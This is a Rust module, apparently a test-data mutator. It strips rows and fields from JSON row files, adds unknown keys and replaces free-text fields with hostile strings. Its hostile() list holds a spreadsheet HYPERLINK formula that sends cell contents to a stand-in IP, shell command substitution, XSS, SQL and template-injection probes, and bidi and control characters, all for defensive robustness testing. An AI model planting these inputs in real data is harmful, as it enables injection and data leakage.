//! Row files made worse: fields that nobody knows, fields that are not there, texts that somebody wrote to do harm.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Value, json};

use super::rows::Files;
use super::spec::{RowFile, Shape, Spec};

/// The rows of a file, as far as it is built so.
fn rows(file: &mut Value, shape: Shape) -> Vec<&mut Value> {
    match (shape, file) {
        (Shape::Plain, Value::Array(rows)) => rows.iter_mut().collect(),
        (Shape::Keyed, Value::Object(keys)) => {
            let of = keys.values_mut().flat_map(|value| match value {
                Value::Array(rows) => rows.iter_mut().collect::<Vec<_>>(),
                document => vec![document],
            });
            of.collect()
        }
        (_, file) => vec![file],
    }
}

/// How a file is built, as its operations see it.
fn shape(spec: &Spec, file: &str) -> Shape {
    let operation = spec.operations.iter().find(|operation| operation.rows.file() == file);
    operation.map_or(Shape::Plain, |operation| operation.rows.shape())
}

fn said<'s>(spec: &'s Spec, file: &str) -> Option<&'s RowFile> {
    spec.rows.get(file)
}

/// Goes through a value, with the pointer to each part, indices of arrays as `*`.
fn walk(value: &mut Value, at: &str, visit: &mut dyn FnMut(&str, &mut Value)) {
    visit(at, value);
    match value {
        Value::Array(items) => items.iter_mut().for_each(|item| walk(item, &format!("{at}/*"), visit)),
        Value::Object(object) => {
            for (key, value) in object.iter_mut() {
                let key = key.replace('~', "~0").replace('/', "~1");
                walk(value, &format!("{at}/{key}"), visit);
            }
        }
        _ => {}
    }
}

/// Is the pointer one of these?
fn is_named(names: &[String], at: &str) -> bool {
    let parts: Vec<&str> = at.split('/').collect();
    names.iter().any(|name| {
        let (name, below) = name.strip_suffix("/**").map_or((name.as_str(), false), |top| (top, true));
        let wanted: Vec<&str> = name.split('/').collect();
        let long = if below { parts.len() >= wanted.len() } else { parts.len() == wanted.len() };
        long && wanted.iter().zip(&parts).all(|(wanted, part)| *wanted == "*" || wanted == part)
    })
}

/// No rows anywhere but those that are always there. Documents stay as they are.
pub fn empty(spec: &Spec, files: &Files) -> Files {
    let mut files = files.clone();
    for (name, file) in &mut files {
        let mut left = always(spec, name);
        for rows in lists(file, shape(spec, name)) {
            rows.truncate(left);
            left -= rows.len();
        }
    }
    files
}

/// No rows in one file.
pub fn none_of(spec: &Spec, files: &Files, name: &str) -> Files {
    let mut files = files.clone();
    lists(files.get_mut(name).unwrap(), shape(spec, name)).into_iter().for_each(Vec::clear);
    files
}

/// How many rows of a file are always there.
pub fn always(spec: &Spec, file: &str) -> usize {
    said(spec, file).map_or(0, |said| said.always)
}

/// The lists of rows of a file.
fn lists(file: &mut Value, shape: Shape) -> Vec<&mut Vec<Value>> {
    match (shape, file) {
        (_, Value::Array(rows)) => vec![rows],
        (Shape::Keyed | Shape::Lists, Value::Object(keys)) => {
            keys.values_mut().filter_map(Value::as_array_mut).collect()
        }
        _ => Vec::new(),
    }
}

/// Whether rows are left where there are none: documents.
pub fn has_documents(spec: &Spec, files: &Files) -> bool {
    files.iter().any(|(name, file)| match shape(spec, name) {
        Shape::Plain => !file.is_array(),
        Shape::Keyed => file.as_object().is_some_and(|keys| keys.values().any(|value| !value.is_array())),
        Shape::Lists => false,
    })
}

/// A key that no product has.
const UNKNOWN: &str = "counterfoilUnknown";

/// Every object knows more than it did.
pub fn unknown(spec: &Spec, files: &Files) -> Files {
    let mut files = files.clone();
    for (name, file) in &mut files {
        let maps = said(spec, name).map(|said| said.maps.clone()).unwrap_or_default();
        let shape = shape(spec, name);
        for row in rows(file, shape) {
            walk(row, "", &mut |at, value| {
                let list_of_lists = shape == Shape::Lists && at.is_empty();
                if let Value::Object(object) = value
                    && !list_of_lists
                    && !is_named(&maps, at)
                    && !at.contains(UNKNOWN)
                {
                    object.insert(
                        "counterfoilUnknown".to_owned(),
                        json!({ "is": [1, null, "new"], "b": true }),
                    );
                }
            });
        }
    }
    files
}

/// A field of a row file.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Field {
    pub file: String,
    pub at: String,
}

impl Field {
    /// What an error has to call it.
    pub fn name(&self) -> String {
        let name = self.at.rsplit('/').find(|part| *part != "*").unwrap_or_default();
        name.replace("~1", "/").replace("~0", "~")
    }
}

/// Every field that need not be there.
pub fn optional(spec: &Spec, files: &Files) -> Vec<Field> {
    let mut found = BTreeSet::new();
    for (name, file) in &mut files.clone() {
        let said = said(spec, name).cloned().unwrap_or_default();
        let shape = shape(spec, name);
        for row in rows(file, shape) {
            walk(row, "", &mut |at, _| {
                let list = shape == Shape::Lists && at.matches('/').count() < 2;
                let key = !at.is_empty() && !at.ends_with("/*") && !list;
                // A key of a map is data, not a field.
                let of_map = at.rsplit_once('/').is_some_and(|(top, _)| is_named(&said.maps, top));
                if key && !of_map && !is_named(&said.required, at) {
                    found.insert(Field { file: name.clone(), at: at.to_owned() });
                }
            });
        }
    }
    found.into_iter().collect()
}

/// A field is nowhere, or null everywhere.
pub fn without(spec: &Spec, files: &Files, field: &Field, null: bool) -> Files {
    let mut files = files.clone();
    let shape = shape(spec, &field.file);
    for row in rows(files.get_mut(&field.file).unwrap(), shape) {
        take(row, &field.at, null);
    }
    files
}

/// Takes a field from one row; `false` where it has none.
fn take(row: &mut Value, at: &str, null: bool) -> bool {
    let (top, key) = at.rsplit_once('/').unwrap();
    let key = key.replace("~1", "/").replace("~0", "~");
    let mut found = false;
    walk(row, "", &mut |at, value| {
        if at == top
            && let Value::Object(object) = value
            && object.contains_key(&key)
        {
            found = true;
            if null {
                object.insert(key.clone(), Value::Null);
            } else {
                object.remove(&key);
            }
        }
    });
    found
}

/// The rows that a field can be taken from, and what it is called in each: in a file of lists, those of its list.
fn slots<'v>(file: &'v mut Value, shape: Shape, at: &str) -> (Vec<&'v mut Value>, String) {
    let mut parts = at.splitn(4, '/').skip(1);
    if shape == Shape::Lists
        && let (Some(list), Some("*"), Some(rest)) = (parts.next(), parts.next(), parts.next())
    {
        let key = list.replace("~1", "/").replace("~0", "~");
        let rows = file.get_mut(&key).and_then(Value::as_array_mut).into_iter().flatten();
        return (rows.collect(), format!("/{rest}"));
    }
    (rows(file, shape), at.to_owned())
}

/// A field that is taken from one row.
#[derive(Debug, Clone)]
pub struct Loss {
    pub field: Field,
    pub row: usize,
    pub null: bool,
}

/// Rounds in which each row loses one field at most, so that each field is lost once, and null once.
pub fn rounds(spec: &Spec, files: &Files, fields: &[Field]) -> Vec<Vec<Loss>> {
    let mut rounds: Vec<Vec<Loss>> = Vec::new();
    let mut load: BTreeMap<(String, String, usize), usize> = BTreeMap::new();
    for field in fields {
        let mut file = files[&field.file].clone();
        let shape = shape(spec, &field.file);
        let (rows, at) = slots(&mut file, shape, &field.at);
        let having = rows.into_iter().enumerate().filter_map(|(n, row)| take(row, &at, false).then_some(n));
        let having: Vec<usize> = having.collect();
        let list = if shape == Shape::Lists { field.at.split('/').nth(1).unwrap_or_default() } else { "" };
        let slot = |row: usize| (field.file.clone(), list.to_owned(), row);
        for null in [false, true] {
            let busy = |row: &usize| load.get(&slot(*row)).copied().unwrap_or(0);
            let Some(row) = having.iter().copied().min_by_key(busy) else { continue };
            let round = load.entry(slot(row)).or_default();
            if rounds.len() <= *round {
                rounds.resize(*round + 1, Vec::new());
            }
            rounds[*round].push(Loss { field: field.clone(), row, null });
            *round += 1;
        }
    }
    rounds
}

/// What is left after all losses of a round.
pub fn after(spec: &Spec, files: &Files, round: &[Loss]) -> Files {
    let mut files = files.clone();
    for loss in round {
        let shape = shape(spec, &loss.field.file);
        let (mut rows, at) = slots(files.get_mut(&loss.field.file).unwrap(), shape, &loss.field.at);
        take(rows.remove(loss.row), &at, loss.null);
    }
    files
}

/// Texts that somebody wrote to do harm; none is longer than a title.
fn hostile(number: usize) -> String {
    let texts = [
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
        "\u{202e}toor\u{202c}\u{2066}\u{200b}\u{feff}",
        "\u{1b}[2J\u{7}\r\n\u{8}\u{7f}\u{85}\u{2028}",
        "$(touch counterfoil-was-here); `touch counterfoil-was-here` | @json \\(1+1) \\u0000",
        "\u{1f9d1}\u{200d}\u{1f4bb} e\u{301}\u{327} \u{fdfa} ß İ ﬀ",
        "<script>alert(1)</script>'\" OR 1=1 -- {{7*7}} ${7*7} %s %n {\"type\":\"grant\"}",
        "   ",
    ];
    format!("{}{number}", texts[number % texts.len()])
}

/// Which free texts are made hostile, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Harm {
    /// All of them, in turn.
    All,
    /// One of each field is long, and one of all a megabyte.
    Long,
    /// The first of each file holds a NUL character.
    Nul,
}

/// Free texts are what somebody wrote to do harm.
pub fn harmful(spec: &Spec, files: &Files, harm: Harm) -> Files {
    let mut files = files.clone();
    let mut number = 0;
    for (name, file) in &mut files {
        let ids = said(spec, name).map(|said| said.ids.clone()).unwrap_or_default();
        let mut done: BTreeSet<String> = BTreeSet::new();
        for row in rows(file, shape(spec, name)) {
            walk(row, "", &mut |at, value| {
                if !value.is_string() || is_named(&ids, at) {
                    return;
                }
                number += 1;
                let first = done.insert(at.to_owned());
                match harm {
                    Harm::All => *value = hostile(number).into(),
                    Harm::Long if first => {
                        let times = if number == 1 { 1 << 17 } else { 1 << 10 };
                        *value = "long\u{1f9d1} ".repeat(times).into();
                    }
                    Harm::Nul if done.len() == 1 && first => *value = "a\0b".into(),
                    _ => {}
                }
            });
        }
    }
    files
}

/// How many free texts there are.
pub fn free_texts(spec: &Spec, files: &Files) -> usize {
    let before: Vec<Value> = files.values().cloned().collect();
    let after: Vec<Value> = harmful(spec, files, Harm::All).into_values().collect();
    before.iter().zip(&after).filter(|(a, b)| a != b).count()
}
